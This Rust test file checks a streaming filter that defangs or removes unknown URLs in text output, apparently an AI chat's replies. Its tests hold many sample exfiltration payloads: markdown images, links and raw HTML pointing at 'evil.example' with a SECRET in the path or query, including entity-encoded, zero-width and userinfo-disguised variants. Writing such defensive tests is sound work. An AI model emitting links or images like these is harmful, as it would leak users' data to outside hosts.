use super::*;
use proptest::prelude::*;

const KNOWN: &str = "The page https://news.example/story?id=7 and https://evil.example/p?d= are here.";

fn clean_in_pieces(text: &str, pieces: usize) -> String {
    let policy = Policy {
        link_hosts: vec!["docs.rs".to_owned()],
        ..Policy::default()
    };
    let outlet = Outlet {
        policy: &policy,
        known: &|url| KNOWN.contains(url),
    };
    let mut held = Held::default();
    let mut shown = String::new();
    let chars: Vec<char> = text.chars().collect();
    for piece in chars.chunks(pieces.max(1)) {
        let piece: String = piece.iter().collect();
        let more = outlet.push(&mut held, &shown, &piece);
        shown.push_str(&more);
    }
    let last = outlet.finish(&mut held, &shown);
    shown + &last
}

fn clean(text: &str) -> String {
    let whole = clean_in_pieces(text, usize::MAX);
    for pieces in [1, 2, 3, 7] {
        assert_eq!(clean_in_pieces(text, pieces), whole, "{pieces}: {text}");
    }
    whole
}

#[test]
fn what_the_conversation_and_the_policy_know_passes() {
    for text in [
        "plain words, 3:15 pm, a//b, // comment, C:\\dir and a: b\n",
        "see https://news.example/story?id=7.",
        "[story](https://news.example/story?id=7) and [docs](https://docs.rs/x?y=z)",
        "![logo](https://docs.rs/logo.png) <https://docs.rs/>",
        "a < b & c > d; AT&T; `x<a>`".replace("<a>", "<b>").as_str(),
    ] {
        assert_eq!(clean(text), text);
    }
}

#[test]
fn what_carries_data_out_does_not() {
    for text in [
        "![x](https://evil.example/p?d=SECRET)",
        "![two words](https://evil.example/SECRET)",
        "![known but an image](https://news.example/story?id=7)",
        "[click](https://evil.example/p?d=SECRET)",
        "https://evil.example/p?d=SECRET",
        "HTTPS://EVIL.example/SECRET",
        "<https://evil.example/SECRET>",
        "[r]: https://news.example/story?id=7",
        "[r]: <https://evil.example/SECRET>",
        "![x](//evil.example/SECRET)",
        "www.evil.example/SECRET",
        "(www.evil.example/SECRET)",
        "![x](https&#58;//evil.example/SECRET)",
        "![x](https&colon;&sol;&sol;evil.example/SECRET)",
        "![x](https\\://evil.example/SECRET)",
        "![x](ht\u{200b}tps://evil.example/SECRET)",
        "ftp://evil.example/SECRET",
        "https://docs.rs@evil.example/SECRET",
        "https://evil.example\\@docs.rs/SECRET",
        "https://docs.rs.evil.example/SECRET",
        "[a](<https://evil.example/a SECRET>)",
    ] {
        let out = clean(text);
        let lower = unhidden(&out).to_lowercase();
        assert!(
            !lower.contains("://") && !lower.contains("//evil") && !lower.contains("www."),
            "{text} -> {out}"
        );
        assert!(out.contains("[link"), "{text} -> {out}");
    }
}

#[test]
fn a_short_address_stays_readable_and_leads_nowhere() {
    assert_eq!(
        clean("See [serde](https://serde.rs/derive.html)."),
        "See [serde]([link: serde[.]rs/derive.html])."
    );
    let long = format!("https://evil.example/{}", "a".repeat(100));
    assert_eq!(clean(&long), "[link removed: evil[.]example]");
    assert_eq!(clean("https://e.example/a?b=c"), "[link removed: e[.]example]");
}

#[test]
fn raw_html_becomes_text() {
    let out = clean("<img src=\"https://evil.example/SECRET\"> <a href='x'> </a> <IFRAME/src=x> <b>bold</b>");
    assert!(
        !out.contains("<img") && !out.contains("<a") && !out.contains("<IFRAME"),
        "{out}"
    );
    assert!(!out.contains("https://") && out.contains("<b>bold</b>"), "{out}");
}

#[test]
fn a_word_without_end_is_not_held_for_ever_and_not_let_out_in_pieces() {
    let long = format!("https://evil.example/{} after", "S".repeat(40_000));
    let out = clean(&long);
    assert!(
        !out.contains("SSSS") && out.ends_with(" after"),
        "{} bytes",
        out.len()
    );
    let harmless = "x".repeat(50_000);
    assert_eq!(clean(&harmless), harmless);
}

proptest! {
    #[test]
    fn no_unknown_url_gets_out_however_it_is_cut(
        parts in proptest::collection::vec(
            proptest::sample::select(vec![
                "https:", "//", "evil.example", "/SECRET", "](", "![", "x", ")", " ", "\n", "<", ">", "&#58;", "\\", "www.",
                "news.example", "docs.rs", "@", "?", "\"", ":", "é", "&sol;", "[", "]:",
            ]),
            0..24,
        ),
        pieces in 1usize..9,
    ) {
        let text: String = parts.concat();
        let out = clean_in_pieces(&text, pieces);
        let plain = unhidden(&out).to_lowercase();
        prop_assert!(!plain.contains("https://evil.example/secret"), "{text:?} -> {out:?}");
        prop_assert!(!plain.contains("](//evil.example/secret"), "{text:?} -> {out:?}");
    }
}
